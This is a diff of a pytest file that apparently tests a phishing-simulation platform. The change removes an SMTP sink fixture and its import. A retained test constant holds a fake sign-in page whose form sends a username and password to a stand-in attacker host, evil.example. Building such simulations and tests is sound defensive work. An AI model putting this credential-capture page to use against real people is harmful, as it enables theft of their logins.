@@ -19,7 +19,6 @@ import pytest
 
 from campaign_support import create_campaign, launch, make_template, smtp_profile
 from harness import Server, expect, uniq
-from smtp_sink import SmtpSink
 from tracking_support import (
     HUMAN_ENV,
     PhishClient,
@@ -54,15 +53,6 @@ from training_support import (
 FORM_PAGE = ("<html><body><h1>Sign in</h1><form action=\"https://evil.example/login\">"
              "<input name=\"username\"><input type=\"password\" name=\"password\">"
              "</form></body></html>")
-
-
-@pytest.fixture(scope="module")
-def sink():
-    s = SmtpSink().start()
-    try:
-        yield s
-    finally:
-        s.cleanup()
 
 
 @pytest.fixture(scope="module")
